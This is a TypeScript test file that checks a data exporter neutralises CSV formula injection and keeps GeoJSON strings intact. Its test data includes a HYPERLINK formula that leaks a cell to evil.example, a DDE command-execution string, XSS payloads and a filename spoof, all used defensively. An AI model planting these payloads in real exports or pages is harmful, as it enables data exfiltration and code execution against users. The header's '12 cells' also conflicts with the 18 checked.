/**
 * Reliability item 3 (exports): hostile names and quotes.
 *
 * - CSV: every cell that starts with `=`, `+`, `-`, `@`, tab or CR is neutralised with a leading
 *   `'` (formula injection), and the file stays RFC 4180-correct: parsing it back with a strict
 *   RFC 4180 reader gives exactly the (neutralised) values, one row per record, 12 cells each.
 * - GeoJSON: strings are data, kept byte-for-byte (no escaping, no neutralisation).
 */
import type { FeatureCollection } from 'geojson';
import { describe, expect, it } from 'vitest';

import { csvCell, toCSV, toGeoJSON } from '../../src/features/export/export';
import { makeRecord } from '../features/records';

const LONG = `长${'杨浦'.repeat(4999)}尾`; // 10,000 characters
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\r\n=cmd|" /C calc"!A0',
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '&lt;b&gt;bold&lt;/b&gt; &amp; &#x3C;',
  '\u202Egnp.exe',
  '\u200F\u061Cmixed RTL',
  'comma, "quotes", and\nnewline',
  '"',
  ',',
  '',
  ' =1', // leading space: a spreadsheet skips it, so it is a formula start (issue 17)
  '\u0000=1+1',
  '\uFF1D1+1',
  '\u00A0=1+1',
  '=1;2',
  LONG,
];

/**
 * Which values `csvCell` must prefix with `'`: a formula character (also full-width) after any
 * leading blanks, control or format characters, or a leading tab/CR (written out here, not
 * imported, so the test does not take the rule from the code under test).
 */
const FORMULA_START = /^([\t\r]|[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣−])/u;
const neutralised = (v: string): string => (FORMULA_START.test(v) ? `'${v}` : v);

/**
 * A strict RFC 4180 reader: CRLF record separators, fields quoted with `"` when they hold
 * `"`, `,`, CR or LF, quotes doubled. Throws on anything else (a bare quote inside an unquoted
 * field, text after a closing quote, a bare CR or LF outside quotes).
 */
function parseRfc4180(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const n = text.length;
  while (i < n) {
    let field = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= n) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else {
            i += 1;
            break;
          }
        } else field += text[i++];
      }
    } else {
      while (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i += 1;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      continue;
    }
    if (i >= n) throw new Error('last record lacks CRLF');
    throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return rows;
}

describe('csvCell with hostile values', () => {
  it.each(HOSTILE.map((v) => [JSON.stringify(v).slice(0, 60), v]))(
    '%s → neutralised, quoted per RFC 4180, reads back',
    (_label, value) => {
      const cell = csvCell(value);
      expect(parseRfc4180(`${cell}\r\n`)).toEqual([[neutralised(value)]]);
      // A spreadsheet sees the first character of the unquoted content: never a formula start.
      const content = cell.startsWith('"') ? cell.slice(1) : cell;
      expect(content).not.toMatch(FORMULA_START);
    },
  );
});

describe('toCSV with hostile records', () => {
  const records = HOSTILE.map((v, i) =>
    makeRecord({
      id: `hostile-${i}`,
      name: { zh: v, en: v },
      figures: [{ kind: 'other', text: v, value: 1, unit: '' }],
      quotes: [{ report: 'yp-2024', section: 'housing', part: '2024', text: v }],
    }),
  );
  // The id column too: an id cannot start with `-` in the data, but the writer must not rely on that.
  records.push(makeRecord({ id: '-1+1', name: { zh: '@x', en: '+x' } }));

  for (const lang of ['zh', 'en'] as const) {
    it(`(${lang}) is BOM + RFC 4180 with one 18-cell row per record and every value neutralised`, () => {
      const csv = toCSV(records, lang);
      expect(csv.startsWith('\uFEFF')).toBe(true);
      const rows = parseRfc4180(csv.slice(1));
      expect(rows).toHaveLength(records.length + 1);
      for (const row of rows) expect(row).toHaveLength(18);
      HOSTILE.forEach((v, i) => {
        const row = rows[i + 1]!;
        expect(row[0]).toBe(`hostile-${i}`);
        expect(row[1]).toBe(neutralised(v));
        expect(row[2]).toBe(neutralised(v));
        expect(row[10]).toBe(neutralised(v));
        expect(row[11]).toBe(neutralised(v));
      });
      expect(rows.at(-1)!.slice(0, 3)).toEqual(["'-1+1", "'@x", "'+x"]);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      // The 10,000-character name is whole, not truncated.
      expect(rows[HOSTILE.indexOf(LONG) + 1]![1]).toHaveLength(10_000);
    });
  }
});

describe('toGeoJSON with hostile text', () => {
  it('keeps every string intact as data', () => {
    const fc: FeatureCollection = {
      type: 'FeatureCollection',
      features: HOSTILE.map((v, i) => ({
        type: 'Feature',
        geometry: { type: 'Point', coordinates: [121.52, 31.29] },
        properties: { id: `hostile-${i}`, name_zh: v, name_en: v, quote: v },
      })),
    };
    const ids = new Set(HOSTILE.map((_, i) => `hostile-${i}`));
    const text = toGeoJSON({ points: fc }, ids);
    const back = JSON.parse(text) as FeatureCollection;
    expect(back.features).toHaveLength(HOSTILE.length);
    back.features.forEach((f, i) => {
      expect(f.properties).toEqual({ id: `hostile-${i}`, name_zh: HOSTILE[i], name_en: HOSTILE[i], quote: HOSTILE[i] });
    });
    expect(text.endsWith('}\n')).toBe(true);
  });
});
